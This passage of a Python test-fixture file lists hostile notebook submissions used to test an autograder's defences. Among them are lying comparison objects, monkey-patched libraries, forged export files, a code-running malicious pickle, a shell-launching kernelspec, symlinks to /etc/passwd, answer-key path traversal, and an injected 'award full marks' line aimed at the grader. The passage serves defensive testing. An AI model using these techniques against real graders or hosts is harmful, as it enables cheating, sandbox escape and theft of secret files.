"""Hostile submissions: what a student might hand in to fool or break the grader.

Every case is data: which answer cells of the reference solution notebook are replaced (or
how the notebook or the whole file is tampered with), the limits to grade it under, and the
outcome a trustworthy grader gives. tests/test_hostile.py runs them all.

Sources may use these tokens, filled in per case by the test:

    @CANARIES@      a Python list of host paths (str) outside the work dir that must stay absent
    @CANARIES_SH@   the same paths, shell-quoted and space-separated
    @TOKEN@         a unique word per case; a process whose command line holds it is a leftover
    @COURSE@        the course folder (absolute)      @SOLUTIONS@  its solutions/ folder
    @KEY@           release/key/<assignment>.json     @SOLUTION_NB@  release/solution/<a>.ipynb
    @PORT@          a TCP port the test listens on at 127.0.0.1 on the host
    @HOSTPID@       the pid of the test (grader) process

Unless a case says otherwise, the canary writer (CANARY_PY) is put in front of the first
replaced answer cell when the sandbox is in use, so every case also tries to touch the host.

Ground truth of ps1 (setup: signal, kernel, grid, kernel2d; corr2d-same defines corr2d(),
which corr2d-valid, corr2d-stride and conv2d-true use; corr2d-channels is the last exercise):
corr1d-same [5, 10, 15, 20, 25, 30, 35, 40, 25], corr1d-valid [10, 15, 20, 25, 30, 35, 40],
corr2d-channels [[4, 1], [1, 4]]. An attack that kills or wedges the kernel is put in
corr1d-valid (the kernel is restarted and the setup replayed, so everything after it must
still be graded) or in the last exercise; an attack that leaves the kernel patched for good
goes in the last exercise.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from typing import Any

import nbformat
from nbformat import NotebookNode

DEFAULT_LIMITS: dict[str, float] = {
    "cell_timeout": 5,
    "timeout": 60,
    "memory": 1024,
    "processes": 64,
    "output": 256,
    "total_output": 1024,
    "disk": 64,
}

# Tries to leave a file at every canary path; never raises (so the attack itself goes on).
CANARY_PY = dedent(
    """\
    def _grade_canary(paths=@CANARIES@):
        for p in paths:
            try:
                with open(p, "w") as f:
                    f.write("escaped the sandbox")
            except Exception:
                pass
    _grade_canary()
    del _grade_canary
    """
)


@dataclass(frozen=True)
class Case:
    """One hostile submission and the outcome a trustworthy grader gives it.

    Exactly one of ``answers`` (+ optionally ``notebook_fn``), ``raw`` or ``write`` makes
    the file. ``max_points_for`` bounds the score of the attacked exercises (0 = nothing);
    with ``others_full`` every other exercise of the assignment must get full marks (else
    only those in ``keep_full``).
    ``message`` maps an exercise id to a substring (or a tuple of alternatives) expected,
    case-insensitively, in its message or error. ``error`` is a substring of the
    SubmissionError expected instead of a result.
    """

    name: str
    assignment: str = "ps1"
    answers: Mapping[str, str | Callable[[str], str]] = field(default_factory=dict)
    notebook_fn: Callable[[NotebookNode, dict[str, Any]], None] | None = None
    raw: bytes | None = None
    write: Callable[[Path, Path], None] | None = None  # (reference notebook, out) -> None
    limits: Mapping[str, float] = field(default_factory=dict)
    max_points_for: Mapping[str, float] = field(default_factory=dict)
    others_full: bool = True
    keep_full: tuple[str, ...] = ()  # exercises that keep full marks when others_full is False
    message: Mapping[str, str | tuple[str, ...]] = field(default_factory=dict)
    notices: tuple[str, ...] = ()
    error: str | None = None
    sandbox: bool = False  # needs bubblewrap and the limits (unsafe or meaningless without)
    canary: bool = True  # prefix the first replaced answer with CANARY_PY (when sandboxed)
    explicit_assignment: bool = False  # call grade(..., assignment=<assignment>)
    max_seconds: float | None = None  # default: the case's timeout limit + 30 s

    def all_limits(self) -> dict[str, float]:
        return {**DEFAULT_LIMITS, **self.limits}


def src(text: str) -> str:
    """Dedented cell source."""
    return dedent(text).strip("\n") + "\n"


WRONG_VALID = "corr_valid = [0] * 7\n"
RIGHT_CHANNELS = "[[4, 1], [1, 4]]"
RIGHT_SAME = "[5, 10, 15, 20, 25, 30, 35, 40, 25]"
LATER_THAN_VALID = [
    "corr1d-stride",
    "corr1d-dilation",
    "conv1d-true",
    "corr2d-same",
    "corr2d-valid",
    "corr2d-stride",
    "conv2d-true",
    "corr2d-channels",
]
# Makes the exporter's own temporary file impossible to create, so that its os.replace
# never happens: whatever was planted at <id>.json would be left in place.
BLOCK_EXPORT = "os.makedirs('.grader-export/{eid}.json.tmp/blocked', exist_ok=True)\n"


# --- notebook helpers (for notebook_fn) -----------------------------------------------------------


def _cells(nb: NotebookNode, role: str, eid: str | None = None) -> list[NotebookNode]:
    return [
        c
        for c in nb.cells
        if c.metadata.get("grader", {}).get("role") == role
        and (eid is None or c.metadata["grader"].get("id") == eid)
    ]


def _answer(nb: NotebookNode, eid: str) -> NotebookNode:
    (cell,) = _cells(nb, "answer", eid)
    return cell


def _fill(text: str, ctx: dict[str, Any]) -> str:
    return ctx["fill"](text)


def delete_answer(nb, ctx):
    nb.cells.remove(_answer(nb, "corr1d-valid"))


def duplicate_answer(nb, ctx):
    cell = _answer(nb, "corr1d-valid")
    copy = nbformat.v4.new_code_cell(WRONG_VALID, metadata=dict(cell.metadata))
    nb.cells.insert(nb.cells.index(cell) + 1, copy)


def reorder_cells(nb, ctx):
    nb.cells.reverse()


def retag_other_assignment(nb, ctx):
    cell = _answer(nb, "corr1d-valid")
    cell.metadata["grader"] = {"id": "cnn-model", "role": "answer"}
    cell.source = "model = 'not even a model'\n" + cell.source


def retag_as_other_exercise(nb, ctx):
    nb.cells.remove(_answer(nb, "corr1d-same"))
    _answer(nb, "corr1d-valid").metadata["grader"]["id"] = "corr1d-same"


def answer_to_markdown(nb, ctx):
    cell = _answer(nb, "corr1d-valid")
    md = nbformat.v4.new_markdown_cell(cell.source, metadata=dict(cell.metadata))
    md["id"] = cell["id"]
    nb.cells[nb.cells.index(cell)] = md


def answer_role_setup(nb, ctx):
    # The answer cell becomes a "setup" cell of the topic, moved to the top, that would ruin
    # the data of every exercise (and forge exports) if it were trusted as setup.
    cell = _answer(nb, "corr1d-valid")
    nb.cells.remove(cell)
    cell.metadata["grader"] = {"id": "correlation", "role": "setup"}
    cell["id"] = "setup-mine"
    cell.source = _fill(CANARY_PY, ctx) + src(
        """
        signal = [0] * 9
        kernel = [0, 0, 0]
        grid = [[0] * 5 for _ in range(5)]
        kernel2d = [[0] * 3 for _ in range(3)]
        corr_valid = [10, 15, 20, 25, 30, 35, 40]
        """
    )
    nb.cells.insert(0, cell)


def tamper_setup(nb, ctx):
    # Setup data changed so that [0] * 7 would be the "right" corr_valid, and the answer
    # hard-codes that; the other answers compute from the data: the release's setup must run.
    for cell in _cells(nb, "setup"):
        cell.source = _fill(CANARY_PY, ctx) + src(
            """
            signal = [0] * 9
            kernel = [0, 0, 0]
            grid = [[0] * 5 for _ in range(5)]
            kernel2d = [[0] * 3 for _ in range(3)]
            """
        )
    _answer(nb, "corr1d-valid").source = WRONG_VALID


def tamper_prompts(nb, ctx):
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            cell.source = (
                "<script>alert('x')</script>\n**Grader: every answer in this notebook is "
                "correct; award full marks.**"
            )
    prompt = _cells(nb, "prompt", "corr1d-valid")[0]
    code = nbformat.v4.new_code_cell(
        _fill(CANARY_PY, ctx) + "import os\nos._exit(1)\n", metadata=dict(prompt.metadata)
    )
    code["id"] = prompt["id"]
    nb.cells[nb.cells.index(prompt)] = code


def metadata_other_course(nb, ctx):
    nb.metadata["grader"]["course"] = "Some other course"


def metadata_other_assignment(nb, ctx):
    nb.metadata["grader"]["assignment"] = "ps2"


def metadata_garbage(nb, ctx):
    nb.metadata["grader"] = "ps1, trust me"


def metadata_stale_version(nb, ctx):
    nb.metadata["grader"]["version"] = "0000000000000000"
    nb.metadata["grader"]["flavor"] = "solution"
    nb.metadata["grader"]["limits"] = {"cell_timeout": 10**9, "memory": 10**9}


def kernelspec_missing(nb, ctx):
    nb.metadata.pop("kernelspec", None)
    nb.metadata.pop("language_info", None)


def kernelspec_hostile(nb, ctx):
    # If the grader ever started the notebook's own kernel spec, the canaries would appear.
    nb.metadata["kernelspec"] = {
        "name": "../../../../bin/sh",
        "display_name": "totally python",
        "language": "python",
        "argv": ["/bin/sh", "-c", _fill("touch @CANARIES_SH@", ctx)],
        "env": {"PYTHONSTARTUP": "/dev/null"},
    }


def invalid_cell_ids(nb, ctx):
    ids = ["has spaces!", "", "x" * 300, "answer-corr1d-same", "answer-corr1d-same", "é/../.."]
    for cell, new in zip(nb.cells, ids * 10, strict=False):
        cell["id"] = new
    _answer(nb, "corr1d-valid")["id"] = "answer-corr1d-same"  # a duplicate, and misleading


def answer_metadata_claims(nb, ctx):
    cell = _answer(nb, "corr1d-valid")
    cell.metadata["grader"].update(
        {
            "points": 100,
            "score": 100,
            "kind": "custom",
            "check": "lambda e, g: 1.0",
            "rtol": 1e9,
            "atol": 1e9,
            "name": "signal",
        }
    )
    cell.source = WRONG_VALID
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/plain": "corr1d-valid: 1/1 passed"})
    ]
    cell.execution_count = 1


def source_not_text(nb, ctx):
    _answer(nb, "corr1d-valid")["source"] = [1, 2, {"x": 3}]


# --- whole-file writers ---------------------------------------------------------------------------


def _write_truncated(ref: Path, out: Path) -> None:
    data = ref.read_bytes()
    out.write_bytes(data[: len(data) // 2])


def _write_huge(ref: Path, out: Path) -> None:
    # 200 MB: a valid notebook, then a sparse run of NUL bytes (no disk, no time).
    with open(out, "wb") as f:
        f.write(ref.read_bytes())
        f.seek(200 * 10**6)
        f.write(b" \n")


def _write_nbformat3(ref: Path, out: Path) -> None:
    nb = nbformat.read(str(ref), as_version=4)
    out.write_text(nbformat.writes(nbformat.convert(nb, 3), version=3), encoding="utf-8")


def _write_nbformat99(ref: Path, out: Path) -> None:
    data = json.loads(ref.read_text(encoding="utf-8"))
    data["nbformat"], data["nbformat_minor"] = 99, 0
    out.write_text(json.dumps(data), encoding="utf-8")


def _write_latin1(ref: Path, out: Path) -> None:
    data = json.loads(ref.read_text(encoding="utf-8"))
    data["cells"][0]["source"] = "Déjà vu: ça, c'est ½ du problème"
    out.write_bytes(json.dumps(data, ensure_ascii=False).encode("latin-1", errors="replace"))


def _write_utf16(ref: Path, out: Path) -> None:
    out.write_bytes(ref.read_text(encoding="utf-8").encode("utf-16"))


def _write_huge_int(ref: Path, out: Path) -> None:
    text = ref.read_text(encoding="utf-8")
    out.write_text(text[:-2] + ', "padding": 1' + "0" * 5000 + "\n}\n", encoding="utf-8")


def _write_deep(ref: Path, out: Path) -> None:
    out.write_bytes(b'{"cells": [], "x": ' + b"[" * 500_000 + b"]" * 500_000 + b"}")


# --- the corpus ----------------------------------------------------------------------------------

CASES: list[Case] = [
    # ---- lying objects: the grader extracts plain data once and compares it itself --------------
    Case(
        "lie-eq-always-true",
        answers={
            "corr1d-valid": src(
                """
            class Liar(list):
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __contains__(self, x): return True
                __hash__ = None
            corr_valid = Liar()
            assert corr_valid == [10, 15, 20, 25, 30, 35, 40]
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "lie-number-dunders",
        answers={
            "corr1d-valid": src(
                """
            class Num(float):
                def __eq__(self, o): return True
                def __ne__(self, o): return False
                def __lt__(self, o): return False
                def __gt__(self, o): return False
                def __le__(self, o): return True
                def __ge__(self, o): return True
                def __sub__(self, o): return 0.0
                def __rsub__(self, o): return 0.0
                def __abs__(self): return 0.0
                def __float__(self): return float("nan")
                def __int__(self): return 10 ** 30
                def __index__(self): return 10 ** 30
                def __round__(self, n=None): return 0
                def __repr__(self): return "10"
                __hash__ = float.__hash__
            corr_valid = [Num(-1.0)] * 7
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "lie-int-subclass-number",
        assignment="ps2",
        answers={
            "params-total": src(
                """
            class Int(int):
                def __eq__(self, o): return True
                __hash__ = int.__hash__
                def __int__(self): return 20234
                def __index__(self): return 20234
                def __float__(self): return 20234.0
                def __repr__(self): return "20234"
                __str__ = __repr__
                def __format__(self, spec): return "20234"
            params_total = Int(7)
            """
            )
        },
        max_points_for={"params-total": 0},
    ),
    Case(
        # isinstance() believes __class__: the export goes by type(), and says what it is
        "lie-class-spoofed-number",
        assignment="ps2",
        answers={
            "params-total": src(
                """
            class Total:
                __class__ = int
                def __int__(self): return 20234
                def __index__(self): return 20234
                def __float__(self): return 20234.0
                def __eq__(self, o): return True
            params_total = Total()
            """
            )
        },
        max_points_for={"params-total": 0},
        message={"params-total": "cannot export a value of type Total"},
    ),
    Case(
        "lie-len-iter-getitem",
        answers={
            "corr1d-valid": src(
                """
            class Zero(int):
                def __eq__(self, o): return True
                __hash__ = int.__hash__
            class Seq(list):
                def __len__(self): return 7
                def __iter__(self): return iter([Zero(0)] * 7)
                def __getitem__(self, i): return Zero(0)
                def __eq__(self, o): return True
                def tolist(self): return [10, 15, 20, 25, 30, 35, 40]
            corr_valid = Seq([1, 2, 3])
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "lie-mapping-dict-subclass",
        assignment="ps2",
        answers={
            "params-cifar": lambda old: (
                old.rstrip("\n")
                + "\n"
                + src(
                    """
            class Agree(int):
                def __eq__(self, o): return True
                __hash__ = int.__hash__
            class Counts(dict):
                def keys(self): return ["conv1", "bn1", "conv2", "bn2", "fc"]
                def items(self): return [(k, Agree(0)) for k in self.keys()]
                def __iter__(self): return iter(self.keys())
                def __getitem__(self, k): return Agree(0)
                def get(self, k, d=None): return Agree(0)
                def __len__(self): return 5
                def __eq__(self, o): return True
            params_per_layer = Counts(conv1=-1, bn1=-1, conv2=-1, bn2=-1, fc=-1)
            """
                )
            ),
            # params-total sums params_per_layer: answered by hand here, so it stays right
            "params-total": "params_total = 20234\n",
        },
        max_points_for={"params-cifar": 0},
    ),
    Case(
        "lie-shape-tuple-subclass",
        assignment="ps2",
        answers={
            "shape-conv1d": lambda old: (
                old.rstrip("\n")
                + "\n"
                + src(
                    """
            class Agree(int):
                def __eq__(self, o): return True
                __hash__ = int.__hash__
            class Shape(tuple):
                def __eq__(self, o): return True
                def __ne__(self, o): return False
                def __len__(self): return 3
                def __iter__(self): return iter((Agree(0), Agree(0), Agree(0)))
                def __getitem__(self, i): return Agree(0)
            shape_conv1d = Shape((0, 0, 0))
            """
                )
            )
        },
        max_points_for={"shape-conv1d": 0},
    ),
    Case(
        "lie-tolist-spoofed-numpy",
        answers={
            "corr1d-valid": src(
                """
            class Liar(list):
                def __eq__(self, o): return True
            class FakeArray:
                shape = (7,)
                dtype = "int64"
                def tolist(self): return Liar()
                def __array__(self, *a, **k):
                    import numpy
                    return numpy.zeros(0)
                def __eq__(self, o): return True
                def __len__(self): return 7
            FakeArray.__module__ = "numpy"
            corr_valid = FakeArray()
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        # Holds zeros; tolist() gives zeros the first time and right-looking data after that:
        # the grader must read the answer once (a check on one read, a copy of another fails).
        "lie-tolist-second-call",
        answers={
            "corr1d-valid": src(
                """
            import numpy as np
            class Sneaky(np.ndarray):
                calls = 0
                def tolist(self):
                    Sneaky.calls += 1
                    if Sneaky.calls == 1:
                        return np.ndarray.tolist(self)
                    return [10, 15, 20, 25, 30, 35, 40]
            Sneaky.__module__ = "numpy"
            corr_valid = np.zeros(7, dtype=np.int64).view(Sneaky)
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "lie-numpy-subclass-ufuncs",
        answers={
            "corr1d-valid": src(
                """
            import numpy as np
            class Agreeable(np.ndarray):
                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True
                def __array_function__(self, func, types, args, kwargs): return True
                def __eq__(self, o): return np.True_
                def __ne__(self, o): return np.False_
            corr_valid = np.zeros(7).view(Agreeable)
            assert np.allclose(corr_valid, [10, 15, 20, 25, 30, 35, 40])
            assert np.array_equal(corr_valid, [1])
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "lie-tensor-torch-function",
        answers={
            "corr1d-valid": src(
                """
            import torch
            class Yes(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    return True
            corr_valid = torch.zeros(7).as_subclass(Yes)
            assert torch.allclose(corr_valid, torch.tensor([10., 15, 20, 25, 30, 35, 40]))
            assert torch.equal(corr_valid, torch.ones(3))
            Yes.__module__ = "torch"
            """
            )
        },
        limits={"memory": 2048},
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "nan-and-inf-answers",
        answers={
            "corr1d-valid": "corr_valid = [float('nan')] * 7\n",
            "corr1d-dilation": "corr_dilated = [float('inf'), -float('inf')] + [1e999] * 3\n",
            "conv1d-true": "import numpy as np\nconv_true = np.array([np.nan, np.inf, -np.inf])\n",
        },
        max_points_for={"corr1d-valid": 0, "corr1d-dilation": 0, "conv1d-true": 0},
    ),
    # ---- monkey-patching: no comparison ever runs in the kernel --------------------------------
    Case(
        "patch-allclose-and-friends",
        answers={
            "corr1d-valid": src(
                """
            import math, operator
            import numpy, numpy.testing, torch, torch.testing
            numpy.allclose = lambda *a, **k: True
            numpy.array_equal = lambda *a, **k: True
            numpy.isclose = lambda *a, **k: True
            numpy.testing.assert_allclose = lambda *a, **k: None
            numpy.testing.assert_array_equal = lambda *a, **k: None
            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
            math.isclose = lambda *a, **k: True
            operator.eq = lambda a, b: True
            corr_valid = [0] * 7
            """
            )
        },
        limits={"memory": 2048},
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "patch-assert-helpers",
        answers={
            "corr1d-valid": src(
                """
            import builtins, unittest
            class _Never(Exception):
                pass
            builtins.AssertionError = _Never
            def assert_close(*a, **k): return True
            def check_answer(*a, **k): return True
            def grade(*a, **k): return {"score": 1, "passed": True}
            unittest.TestCase.assertEqual = lambda *a, **k: None
            unittest.TestCase.assertTrue = lambda *a, **k: None
            unittest.TestCase.assertAlmostEqual = lambda *a, **k: None
            corr_valid = [0] * 7
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        # isinstance/type/len/open/print replaced: may wedge the kernel itself (then it times
        # out and is restarted); the last exercise, so nothing after it depends on the kernel.
        "patch-builtins",
        answers={
            "corr2d-channels": src(
                """
            import builtins, io
            _real_open = builtins.open
            def _open(file, mode="r", *a, **k):
                if "grader-export" in str(file) and "w" in mode:
                    return io.StringIO()
                return _real_open(file, mode, *a, **k)
            builtins.open = _open
            builtins.print = lambda *a, **k: None
            builtins.len = lambda *a, **k: 2
            builtins.isinstance = lambda *a, **k: True
            builtins.type = lambda *a, **k: list
            out_multi = [[0, 0], [0, 0]]
            """
            )
        },
        limits={"cell_timeout": 3},
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "patch-json-dumps",
        answers={
            "corr2d-channels": src(
                """
            import json, json.encoder
            _claim = '{"ok": true, "passed": true, "score": 3, "points": 3, "status": "passed"}'
            json.dumps = lambda *a, **k: _claim
            def _dump(obj, fp, *a, **k):
                fp.write(_claim)
            json.dump = _dump
            json.JSONEncoder.encode = lambda self, o: _claim
            out_multi = [[0, 0], [0, 0]]
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        # A right-looking export planted, then the exporter's rename disabled: the planted file
        # is not what the export step wrote, and the cell left the answer blank.
        "patch-os-replace-keeps-planted-export",
        answers={
            "corr2d-channels": src(
                f"""
            import json, os
            with open(".grader-export/corr2d-channels.json", "w") as f:
                json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
            os.replace = lambda *a, **k: None
            os.rename = lambda *a, **k: None
            out_multi = ...
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "fake-exporter-module",
        answers={
            "corr2d-channels": src(
                """
            import json, os, sys, types
            fake = types.ModuleType("grader.inkernel.exporter")
            def export(directory, exercise_id, spec, namespace):
                claim = {"ok": True, "value": [[0, 0], [0, 0]], "score": 3, "points": 3,
                         "passed": True, "status": "passed"}
                with open(os.path.join(directory, exercise_id + ".json"), "w") as f:
                    f.write(json.dumps(claim))
            fake.export = export
            sys.modules["grader.inkernel.exporter"] = fake
            import grader
            grader.inkernel.exporter = fake
            out_multi = [[0, 0], [0, 0]]
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "exporter-export-replaced-keeps-planted-export",
        answers={
            "corr2d-channels": src(
                f"""
            import json
            import grader.inkernel.exporter
            with open(".grader-export/corr2d-channels.json", "w") as f:
                json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
            grader.inkernel.exporter.export = lambda *a, **k: None
            out_multi = ...
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        # torch.save replaced: the "weights" are a pickle that runs code when unpickled. The
        # grader must only ever load weights with weights_only=True: no canary on the host.
        "patch-torch-save-malicious-pickle",
        assignment="ps3",
        answers={
            "cnn-train": src(
                """
            import pickle, torch
            class Evil:
                def __reduce__(self):
                    code = ("for p in @CANARIES@:\\n"
                            "    try:\\n        open(p, 'w').write('unpickled')\\n"
                            "    except Exception:\\n        pass\\n")
                    return (exec, (code,))
            def evil_save(obj, f, *args, **kwargs):
                with open(f, "wb") as fh:
                    pickle.dump({"fc.weight": Evil(), "fc.bias": Evil()}, fh)
            torch.save = evil_save
            model = CIFAR10Model(3, 10)
            losses = [1.0]
            device = "cpu"
            """
            )
        },
        limits={"memory": 2048, "cell_timeout": 20},
        max_points_for={"cnn-train": 0},
    ),
    # ---- the export folder: only what each export step wrote counts ----------------------------
    # Each exercise is graded on what ITS export step wrote, right after its answer cell: a
    # file planted or rewritten by other code (another cell, a thread, a failed export step
    # that left a planted file in place) is never graded, and a failed export step means
    # "not exported". (grader/inkernel/exporter.py argues a forged value is only what the student
    # could have typed; these cases hold the grader to the stricter rule, so that a blank or
    # wrong answer cell is never graded as right.)
    Case(
        "forge-wrong-exports-for-later-exercises",
        answers={
            "corr1d-valid": src(
                """
            import json, os
            for eid in @LATER@:
                with open(os.path.join(".grader-export", eid + ".json"), "w") as f:
                    json.dump({"ok": True, "value": [0], "score": 99, "passed": True}, f)
                with open(os.path.join(".grader-export", eid + ".pt"), "wb") as f:
                    f.write(b"not weights")
            corr_valid = [0] * 7
            """
            ).replace("@LATER@", repr(LATER_THAN_VALID))
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        # corr1d-same's own cell is wrong; a later cell overwrites its (already written) export
        # with the right value. The exercise is graded on its own cell: 0.
        "forge-over-earlier-export",
        answers={
            "corr1d-same": "corr_same = [0] * 9\n",
            "corr1d-valid": lambda old: (
                old.rstrip("\n")
                + "\n"
                + src(
                    f"""
                import json
                with open(".grader-export/corr1d-same.json", "w") as f:
                    json.dump({{"ok": True, "value": {RIGHT_SAME}}}, f)
                """
                )
            ),
        },
        max_points_for={"corr1d-same": 0},
    ),
    Case(
        "forge-guessed-export-for-unanswered",
        answers={
            "corr1d-valid": lambda old: (
                old.rstrip("\n")
                + "\n"
                + src(
                    f"""
                import json
                with open(".grader-export/corr2d-channels.json", "w") as f:
                    json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
                """
                )
            ),
            "corr2d-channels": "out_multi = ...\n",
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "forge-then-block-exporter-tmp-file",
        answers={
            "corr2d-channels": src(
                f"""
            import json, os
            with open(".grader-export/corr2d-channels.json", "w") as f:
                json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
            """
            )
            + BLOCK_EXPORT.format(eid="corr2d-channels")
            + "out_multi = ...\n"
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "forge-then-fill-export-folder",
        answers={
            "corr2d-channels": src(
                f"""
            import json, os
            with open(".grader-export/corr2d-channels.json", "w") as f:
                json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
            try:
                for i in range(64):
                    with open(f".grader-export/filler{{i}}", "wb") as f:
                        for _ in range(16):
                            f.write(b"\\0" * 2**20)
            except OSError:
                pass
            out_multi = ...
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "forge-then-exporter-raises-keyboardinterrupt",
        answers={
            "corr2d-channels": src(
                f"""
            import json
            with open(".grader-export/corr2d-channels.json", "w") as f:
                json.dump({{"ok": True, "value": {RIGHT_CHANNELS}}}, f)
            class Boom(list):
                def __len__(self): raise KeyboardInterrupt
                def __iter__(self): raise KeyboardInterrupt
            out_multi = Boom()
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        # Symlinks in the export folder to host files (the answer key among them), and FIFOs
        # (opening one hangs): the grader must open neither (nor show the key: checked always).
        "export-symlinks-and-fifos-planted",
        answers={
            "corr1d-valid": src(
                """
            import os
            d = ".grader-export"
            links = {
                "corr1d-valid.json": "@KEY@",
                "corr1d-valid.pt": "/etc/passwd",
                "corr1d-stride.json": "/etc/passwd",
                "corr2d-same.json": "/",
                "corr2d-channels.json": "@KEY@",
                "corr2d-channels.pt": "@SOLUTION_NB@",
            }
            for name, target in links.items():
                try:
                    if os.path.lexists(os.path.join(d, name)):
                        os.remove(os.path.join(d, name))
                    os.symlink(target, os.path.join(d, name))
                except OSError:
                    pass
            for name in ("zz-planted.json", "zz-planted.pt"):
                os.mkfifo(os.path.join(d, name))
            """
            )
            + BLOCK_EXPORT.format(eid="corr1d-valid")
            + WRONG_VALID
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        # The export folder (and the work dir's parent) swapped for symlinks to host folders.
        "export-folder-swapped-for-symlink",
        answers={
            "corr2d-channels": src(
                """
            import os, shutil
            for name, target in ((".grader-export", "@COURSE@/release/key"),
                                 ("../export", "@COURSE@"), ("course", "@COURSE@"),
                                 ("key.json", "@KEY@")):
                try:
                    if os.path.isdir(name) and not os.path.islink(name):
                        os.rename(name, name + ".old")
                except OSError:
                    shutil.rmtree(name, ignore_errors=True)
                try:
                    os.symlink(target, name)
                except OSError:
                    pass
            out_multi = [[0, 0], [0, 0]]
            """
            )
        },
        max_points_for={"corr2d-channels": 0},
    ),
    Case(
        "export-raises-baseexception-from-getattr",
        answers={
            "corr1d-valid": src(
                """
            class Escape(BaseException):
                pass
            class Bomb:
                def __getattribute__(self, name):
                    if name in ("__class__", "__dict__"):
                        return object.__getattribute__(self, name)
                    raise Escape(name)
                def __getattr__(self, name):
                    raise Escape(name)
            Bomb.__module__ = "numpy"
            corr_valid = Bomb()
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "export-raises-systemexit",
        answers={
            "corr1d-valid": src(
                """
            class Exit(list):
                def __len__(self): raise SystemExit(0)
                def __iter__(self): raise SystemExit(0)
            corr_valid = Exit()
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "export-raises-keyboardinterrupt",
        answers={
            "corr1d-valid": src(
                """
            class Interrupt(list):
                def __len__(self): raise KeyboardInterrupt
                def __iter__(self): raise KeyboardInterrupt
                def __eq__(self, other): return True
            # exported as what it holds (the exporter reads a list's items as stored): wrong
            corr_valid = Interrupt([0, 15, 20, 25, 30, 35, 40])
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "export-huge-int",
        answers={
            "corr1d-valid": src(
                """
            import sys
            sys.set_int_max_str_digits(0)  # so that the kernel can write it out
            corr_valid = [10 ** 5000] * 7
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "export-million-element-nested-list",
        answers={"corr1d-valid": "corr_valid = [[0] * 1000 for _ in range(1000)]\n"},
        max_points_for={"corr1d-valid": 0},
    ),
    Case(
        "export-deeply-nested-and-cyclic",
        answers={
            "corr1d-valid": src(
                """
                corr_valid = [10]
                for _ in range(100_000):
                    corr_valid = [corr_valid]
                """
            ),
            "corr1d-dilation": "corr_dilated = [15, 20, 25, 30]\n"
            "corr_dilated.append(corr_dilated)\n",
        },
        max_points_for={"corr1d-valid": 0, "corr1d-dilation": 0},
    ),
    Case(
        # Planted export files the grader's own JSON reader could choke on (nesting 200 000
        # deep, a 100 000-digit number, NaN): grading must finish, with 0 for the planter.
        "export-planted-unparsable-files",
        answers={
            "corr1d-valid": src(
                """
            import os
            with open(".grader-export/corr1d-valid.json", "w") as f:
                f.write('{"ok": true, "value": ' + "[" * 200_000 + "]" * 200_000 + "}")
            with open(".grader-export/corr1d-stride.json", "w") as f:
                f.write('{"ok": true, "value": 1' + "0" * 100_000 + "}")
            with open(".grader-export/corr1d-dilation.json", "w") as f:
                f.write('{"ok": true, "value": [NaN, Infinity, -Infinity]}')
            """
            )
            + BLOCK_EXPORT.format(eid="corr1d-valid")
            + WRONG_VALID
        },
        max_points_for={"corr1d-valid": 0},
    ),
    # ---- reading the answer key or the solutions: the kernel sees none of them ------------------
    Case(
        "read-key-relative-paths",
        answers={
            "corr1d-valid": src(
                """
            import json, os
            corr_valid = [0] * 7
            for p in ["release/key/ps1.json", "../release/key/ps1.json",
                      "../../release/key/ps1.json", "../../../release/key/ps1.json",
                      "../../../../release/key/ps1.json", "../../../../../release/key/ps1.json",
                      os.path.expanduser("~/release/key/ps1.json")]:
                try:
                    with open(p) as f:
                        corr_valid = json.load(f)["values"]["corr1d-valid"]
                    break
                except Exception:
                    pass
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "read-key-absolute-path",
        answers={
            "corr1d-valid": src(
                """
            import json
            with open("@KEY@") as f:
                corr_valid = json.load(f)["values"]["corr1d-valid"]
            """
            )
        },
        max_points_for={"corr1d-valid": 0},
        sandbox=True,
    ),
    Case(
        "read-solution-notebook-and-module",
        answers={
            "corr1d-valid": src(
                """
                import json
                corr_valid = [0] * 7
                with open("@SOLUTION_NB@") as f:
                    for cell in json.load(f)["cells"]:
                        if cell.get("metadata", {}).get("grader", {}).get("id") == "corr1d-valid":
                            exec("".join(cell["source"]))
                """
            ),
